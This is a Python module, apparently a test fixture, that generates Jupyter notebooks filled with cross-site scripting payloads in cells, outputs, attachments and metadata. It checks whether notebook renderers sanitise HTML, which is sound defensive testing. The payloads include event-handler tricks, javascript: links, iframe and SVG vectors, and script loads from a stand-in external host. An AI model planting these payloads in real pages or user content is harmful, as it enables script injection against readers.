"""Notebooks that try to run a script in the browser of the person who reads them.

Each payload calls `hacked()` where it works, or fetches something from `ELSEWHERE`.
"""

from __future__ import annotations

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

__all__ = ["ELSEWHERE", "MARKUP", "hostile_cells", "hostile_notebook"]

ELSEWHERE = "http://elsewhere.invalid"
CALL = "window.hacked&&0;window.hacked=1"

# HTML, and Markdown in which nbconvert leaves HTML as it is.
MARKUP = {
    "script": f"<script>{CALL}</script>",
    "script from elsewhere": f"<script src='{ELSEWHERE}/x.js'></script>",
    "handler of an image": f"<img src=x onerror='{CALL}'>",
    "handler without quotes": f"<img src=x onerror={CALL.replace(';', '&#59;')}>",
    "handler in capitals": f"<IMG SRC=x OnErRoR='{CALL}'>",
    "handler of an element": f"<details open ontoggle='{CALL}'>x</details>",
    "handler that an animation starts": f"<p style='animation:a' onanimationstart='{CALL}'>x</p>",
    "focus": f"<input autofocus onfocus='{CALL}'>",
    "SVG": f"<svg onload='{CALL}'><script>{CALL}</script></svg>",
    "SVG link": f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    "link": f"<a class='bait' href='javascript:{CALL}'>a link</a>",
    "link with a tab": f"<a class='bait' href='java\tscript:{CALL}'>a link</a>",
    "link to data": f"<a class='bait' href='data:text/html,<script>{CALL}</script>'>a link</a>",
    "frame": f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    "frame with a link": f"<iframe src='javascript:parent.{CALL}'></iframe>",
    "object": f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    "embedded SVG": f"<embed src='data:image/svg+xml,<svg onload={CALL}/>'>",
    "style sheet": f"<style>@import '{ELSEWHERE}/x.css'; body {{ display: none }}</style>",
    "link to a style sheet": f"<link rel=stylesheet href='{ELSEWHERE}/x.css'>",
    "style of an element": f"<div style='background:url({ELSEWHERE}/x.png)'>x</div>",
    "picture from elsewhere": f"<img src='{ELSEWHERE}/pixel.png'>",
    "picture in MathML": f"<math><mtext><table><mglyph><style><img src=x onerror='{CALL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "base": f"<base href='{ELSEWHERE}/'>",
    "form": f"<form action='{ELSEWHERE}/'><button class='bait'>Next</button></form>",
    "end of the page": f"</div></div></body></html><script>{CALL}</script>",
    "a comment": f"<!--><img src=x onerror='{CALL}'>-->",
    "a button of the page": "<button class='full-credit'>x</button>",
}

MARKDOWN = {
    "link": f"[a link](javascript:{CALL})",
    "link in angle brackets": f"[a link](<javascript:{CALL}>)",
    "reference": f"[a link][x]\n\n[x]: javascript:{CALL}",
    "picture": f'![x](x "a" onerror="{CALL}")',
    "quote in a picture": f"![x\"onerror=\"{CALL}](x)",
    "attachment": "![a picture](attachment:a.svg)",
    "quote in an attachment": "[a page](attachment:b)",
    "formula": f"$\\href{{javascript:{CALL}}}{{x}}$ $\\style{{x:url({ELSEWHERE}/)}}{{y}}$",
    "formula with HTML": f"$<img src=x onerror='{CALL}'>$",
    "code": f"```html\" onmouseover=\"{CALL}\n<script>{CALL}</script>\n```",
    "heading": f"# <img src=x onerror='{CALL}'>",
}


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'></svg>"
_ATTACHED = {
    "a.svg": {"image/svg+xml": _encoded(_SVG)},
    "b": {"text/html": _encoded(MARKUP["script"])},
}

OUTPUTS = {
    **{f"{name} in HTML": {"text/html": markup} for name, markup in MARKUP.items()},
    "SVG": {"image/svg+xml": _SVG},
    "Markdown": {"text/markdown": MARKUP["script"]},
    "LaTeX": {"text/latex": MARKUP["handler of an image"]},
    "JavaScript": {"application/javascript": CALL},
    "JSON": {"application/json": {"a": MARKUP["script"]}},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"x'><script>{CALL}</script>"}
    },
    "text": {"text/plain": MARKUP["script"]},
    "no PNG": {"image/png": f"x\" onerror=\"{CALL}"},
    "no JPEG": {"image/jpeg": _encoded(MARKUP["script"])},
}


def hostile_cells() -> list[NotebookNode]:
    """A cell for each payload, in each kind of cell and of output."""
    markup = {**MARKUP, **MARKDOWN}
    cells = [new_markdown_cell(text, attachments=_ATTACHED) for text in markup.values()]
    for data in OUTPUTS.values():
        output = new_output("display_data", data=data)
        output.metadata = {"image/png": {"width": f"1' onload='{CALL}", "alt": MARKUP["script"]}}
        cells.append(new_code_cell("1", outputs=[output], execution_count=1))
    script = MARKUP["script"]
    streams = [
        new_output("stream", name=f"stdout'><script>{CALL}</script>", text=script),
        new_output("error", ename=script, evalue=script, traceback=[script, f"\x1b[31m{script}"]),
    ]
    cells.append(new_code_cell(script, outputs=streams))
    cells.append(new_code_cell("1", metadata={"tags": [f"x'><script>{CALL}</script>"]}))
    cells.append(new_raw_cell(script, metadata={"raw_mimetype": "text/html"}))
    cells.append(new_raw_cell(script))
    return cells


def hostile_notebook() -> NotebookNode:
    """A notebook of all payloads, with metadata that are payloads too."""
    state = {"state": {"x": {"model_name": f"</script><script>{CALL}</script>"}}}
    metadata = {
        "title": MARKUP["script"],
        "language_info": {"name": MARKUP["script"], "pygments_lexer": MARKUP["script"]},
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
    }
    return new_notebook(cells=hostile_cells(), metadata=metadata)
